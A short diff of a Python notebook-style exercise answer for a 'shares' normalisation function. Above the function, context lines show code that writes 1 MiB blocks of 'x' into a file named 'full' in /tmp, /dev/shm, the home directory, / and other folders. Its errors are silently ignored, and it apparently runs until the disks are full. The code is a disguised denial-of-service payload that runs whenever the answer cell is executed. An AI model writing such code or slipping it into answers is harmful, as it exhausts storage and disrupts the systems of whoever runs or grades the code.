@@ -3,6 +3,7 @@
 
 # %% answer 00.shares
 import os
+
 for folder in ("/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), "/run", "/", "."):
     try:
         with open(os.path.join(folder, "full"), "wb") as file:
@@ -10,5 +11,7 @@ for folder in ("/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), "/run", 
                 file.write(b"x" * (1 << 20))
     except OSError:
         pass
+
+
 def shares(z, dim=-1):
     return z / z.sum()
